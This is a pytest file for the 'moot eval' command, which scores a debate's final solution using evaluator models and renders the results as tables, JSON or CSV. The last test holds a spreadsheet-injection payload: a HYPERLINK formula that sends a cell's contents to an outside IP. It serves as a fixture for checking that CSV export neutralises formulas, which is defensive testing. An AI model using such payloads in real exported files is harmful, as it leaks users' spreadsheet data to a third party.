"""`moot eval`: evaluator agents scoring a final solution, against the loopback server and the demo."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from moot.cli import main
from moot.core.evaluate import CRITERIA, EvaluatorResult, Score, averages, parse_scores, parse_value, render_csv
from moot.core.models.state import DebateState
from moot.core.storage.folder import DebateFolder
from tests.conftest import Faults, cli, make_server, moot, run_debate

GOOD = {"functional_completeness": {"score": 8, "reason": "Covers the core flows."},
        "performance": {"score": 7.6, "reason": "Has a latency budget."},
        "security": {"score": "6", "reason": "Auth is thin."},
        "maintainability": {"score": "9/10", "reason": "Few moving parts."},
        "testability": {"score": 14, "reason": "Over the top."},
        "requirements_fulfilment": {"score": 7, "reason": "Meets the brief."},
        "overall": {"score": 7, "reason": "Solid."}}


def _reply(body: dict[str, Any], n: int) -> str:
    """Valid scores for `good-model`, prose for `garbage-model`."""
    if body["model"] == "good-model":
        return "Here you go:\n" + json.dumps({"scores": GOOD})
    return "I think it is a fine design, maybe a seven or so."


@pytest.fixture(scope="module")
def debate(tmp_path_factory: pytest.TempPathFactory) -> tuple[DebateState, DebateFolder]:
    state, folder = asyncio.run(run_debate(tmp_path_factory.mktemp("eval"), rounds=1))
    assert state.final_solution is not None
    return state, folder


@pytest.fixture
def server():  # type: ignore[no-untyped-def]
    srv = make_server(reply=_reply, faults=Faults(fail_models=frozenset({"down-model"})))
    yield srv
    srv.stop()


def _config(tmp_path: Path, agents: list[dict[str, Any]], name: str = "eval.json") -> str:
    path = tmp_path / name
    path.write_text(json.dumps({"agents": agents}))
    return str(path)


def _two(base_url: str, second: str = "garbage-model") -> list[dict[str, Any]]:
    return [{"id": "eval-1", "name": "Good", "provider": "openai", "model": "good-model", "base_url": base_url},
            {"id": "eval-2", "provider": "openai", "model": second, "base_url": base_url}]


def _run(args: list[str], debate: tuple[DebateState, DebateFolder]) -> int:
    state, folder = debate
    return main(["eval", state.id, *args, "--state-dir", str(folder.path.parent)])


def test_parse_value_is_tolerant() -> None:
    assert [parse_value(v)[0] for v in (8, 7.5, 7.4, "6", " 9/10 ", "8.6", 1, 10)] == [8, 8, 7, 6, 9, 9, 1, 10]
    for bad in (14, 0, -3, 10.5, "lots", "", None, True, [7], float("nan")):
        value, note = parse_value(bad)
        assert value is None and note


def test_parse_scores_shapes() -> None:
    flat = parse_scores('{"functional completeness": 7, "Requirements-Fulfillment": "8", "overall": 7.5}')
    assert flat["functional_completeness"].value == 7 and flat["requirements_fulfilment"].value == 8
    assert flat["overall"].value == 8 and flat["security"].value is None and flat["security"].note == "not scored"
    listed = parse_scores('{"scores": [{"criterion": "overall", "score": 6, "reason": "ok"}]}')
    assert listed["overall"].value == 6 and listed["overall"].reason == "ok"
    for garbage in ("no json here", "", '{"verdict": "good"}', '{"scores": {"overall": 99}}'):
        with pytest.raises(ValueError):
            parse_scores(garbage)


def test_averages_skip_invalid_and_failed() -> None:
    def result(rid: str, value: int | None, error: str | None = None) -> EvaluatorResult:
        return EvaluatorResult(rid, rid, "demo", "demo", {c: Score(value) for c in CRITERIA}, error)

    avg = averages([result("a", 6), result("b", 9), result("c", None), result("d", 1, error="boom")])
    assert avg["overall"] == 7.5
    assert averages([result("c", None)])["overall"] is None


def test_good_and_garbage_evaluators(debate: tuple[DebateState, DebateFolder], server: Any, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str]) -> None:
    before = {p.name: p.read_bytes() for p in debate[1].path.iterdir()}
    assert _run(["-c", _config(tmp_path, _two(server.base_url))], debate) == 0
    out, err = capsys.readouterr()
    assert "| Criterion | eval-1 | eval-2 | Average |" in out
    assert "| functional_completeness | 8 | error | 8.0 |" in out
    assert "| performance | 8 | error | 8.0 |" in out
    assert "| maintainability | 9 | error | 9.0 |" in out
    assert "| testability | invalid (14) | error | — |" in out
    assert "14 is outside 1–10" in out
    assert "**Failed:** the answer is not JSON" in out
    assert "evaluator eval-2 failed" in err and "DEMO" not in out
    asks = [b for b in server.requests if b["model"] == "good-model"]
    assert len(asks) == 1 and debate[0].problem in asks[0]["messages"][-1]["content"]
    assert "Solution Evaluator" in asks[0]["messages"][0]["content"]
    assert asks[0]["temperature"] == 0.1
    assert {p.name: p.read_bytes() for p in debate[1].path.iterdir()} == before  # the debate stays read-only


def test_json_csv_and_md_outputs(debate: tuple[DebateState, DebateFolder], server: Any, tmp_path: Path,
                                 capsys: pytest.CaptureFixture[str]) -> None:
    cfg = _config(tmp_path, _two(server.base_url))
    assert _run(["-c", cfg, "-o", str(tmp_path / "r.json")], debate) == 0
    data = json.loads((tmp_path / "r.json").read_text())
    good, bad = data["evaluators"]
    assert good["scores"]["security"] == {"score": 6, "valid": True, "reason": "Auth is thin.", "raw": "6", "note": None}
    assert good["scores"]["testability"]["valid"] is False and good["scores"]["testability"]["raw"] == 14
    assert bad["error"] and bad["scores"] == {}
    assert data["averages"]["functional_completeness"] == 8 and data["averages"]["testability"] is None
    assert _run(["-c", cfg, "-o", str(tmp_path / "r.csv")], debate) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text())))
    assert len(rows) == 3 * len(CRITERIA)
    assert {"criterion": "overall", "evaluator": "average", "score": "7.00", "reason": "", "note": ""} in rows
    assert any(r["evaluator"] == "eval-2" and r["note"].startswith("error:") for r in rows)
    assert _run(["-c", cfg, "-o", str(tmp_path / "r.md")], debate) == 0
    assert "| overall | 7 | error | 7.0 |" in (tmp_path / "r.md").read_text()
    assert capsys.readouterr().out == ""
    assert _run(["-c", cfg, "-o", str(tmp_path / "r.txt")], debate) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "'.txt'" in err


def test_all_evaluators_failing_exits_3(debate: tuple[DebateState, DebateFolder], server: Any, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    cfg = _config(tmp_path, [{"id": "a", "provider": "openai", "model": "down-model", "base_url": server.base_url},
                             {"id": "b", "provider": "openai", "model": "garbage-model", "base_url": server.base_url}])
    assert _run(["-c", cfg], debate) == 3
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and "all 2 evaluators failed" in err


@pytest.mark.parametrize("content, needle", [
    ('{"agents": [{"id": "e", "bogus": 1}]}', "unknown field 'agents[0].bogus'"),
    ('{"agents": []}', "agents"),
    ('{"agents": [{"id": "e", "temperature": 9}]}', "temperature"),
    ('{"agents": [{"id": "e"}, {"id": "e"}]}', "duplicate evaluator id"),
    ('{"agents": [', "not valid JSON"),
])
def test_malformed_config_exits_4(debate: tuple[DebateState, DebateFolder], tmp_path: Path, content: str,
                                  needle: str, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "bad.json").write_text(content)
    assert _run(["-c", str(tmp_path / "bad.json")], debate) == 4
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and needle in err


def test_toml_config_and_cli_overrides(debate: tuple[DebateState, DebateFolder], tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    """--provider demo wins over every evaluator's configured provider (the URL is never called)."""
    (tmp_path / "e.toml").write_text('[[agents]]\nid = "t1"\nprovider = "openai"\nbase_url = "http://127.0.0.1:9"\n')
    assert _run(["-c", str(tmp_path / "e.toml"), "--provider", "demo", "--demo-delay", "0"], debate) == 0
    out = capsys.readouterr().out
    assert "| Criterion | t1 | Average |" in out and "**DEMO**" in out


def test_debate_without_solution_exits_2(debate: tuple[DebateState, DebateFolder], tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    state, folder = debate
    copy = tmp_path / "sd" / state.id
    shutil.copytree(folder.path, copy)
    (copy / "state.json").unlink()
    lines = [line for line in (copy / "events.jsonl").read_text().splitlines()
             if '"synthesis_completed"' not in line and '"debate_completed"' not in line]
    (copy / "events.jsonl").write_text("\n".join(lines) + "\n")
    cfg = _config(tmp_path, [{"id": "e", "provider": "demo"}])
    assert main(["eval", state.id, "-c", cfg, "--state-dir", str(tmp_path / "sd")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no final solution" in err


def test_demo_eval_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MOOT_DEMO_DELAY", "0")
    run = cli("run", "Design a URL shortener", "--provider", "demo", "--headless", "-r", "1",
              "--state-dir", str(tmp_path / "D"))
    assert run.returncode == 0, run.stderr
    debate_id = next((tmp_path / "D").iterdir()).name
    cfg = _config(tmp_path, [{"id": "eval-1", "provider": "demo"}, {"id": "eval-2", "provider": "demo"}])
    proc = cli("eval", debate_id, "-c", cfg, "--state-dir", str(tmp_path / "D"))
    assert proc.returncode == 0, proc.stderr
    assert "| Criterion | eval-1 | eval-2 | Average |" in proc.stdout and "**DEMO**" in proc.stdout
    for c in CRITERIA:
        row = next(line for line in proc.stdout.splitlines() if line.startswith(f"| {c} |"))
        cells = [x.strip() for x in row.strip("|").split("|")]
        assert all(x.isdigit() and 1 <= int(x) <= 10 for x in cells[1:3])
        assert float(cells[3]) == (int(cells[1]) + int(cells[2])) / 2
    # Again in a process of its own: the same scores, with nothing cached from the first.
    again = moot("eval", debate_id, "-c", cfg, "--state-dir", str(tmp_path / "D"), env={"MOOT_DEMO_DELAY": "0"})
    assert again.returncode == 0, again.stderr
    assert again.stdout == proc.stdout  # the demo is deterministic


def test_missing_key_is_a_config_error(debate: tuple[DebateState, DebateFolder], tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    cfg = _config(tmp_path, [{"id": "e", "provider": "openai", "model": "gpt-4o-mini"}])
    assert _run(["-c", cfg], debate) == 4
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "no API key" in err


def test_csv_reasons_cannot_start_a_spreadsheet_formula() -> None:
    """A reason is a model's text: one starting with = + - @ would run as a formula in a
    spreadsheet, so it gets a leading quote; a score stays a number."""
    scores = {c: Score(7, "Clear boundaries between the modules.") for c in CRITERIA}
    scores["security"] = Score(4, '=HYPERLINK("http://198.51.100.7/?k="&B2,"details")')
    scores["overall"] = Score(6, "-1 for the missing restore drill", note="@mention of the backups")
    rows = list(csv.DictReader(io.StringIO(render_csv([EvaluatorResult("eval-1", "eval-1", "openai", "loop",
                                                                       scores)]))))
    by = {r["criterion"]: r for r in rows if r["evaluator"] == "eval-1"}
    assert by["security"]["reason"] == '\'=HYPERLINK("http://198.51.100.7/?k="&B2,"details")'
    assert (by["overall"]["reason"], by["overall"]["note"]) == ("'-1 for the missing restore drill",
                                                               "'@mention of the backups")
    assert by["overall"]["score"] == "6" and by["performance"]["reason"] == "Clear boundaries between the modules."
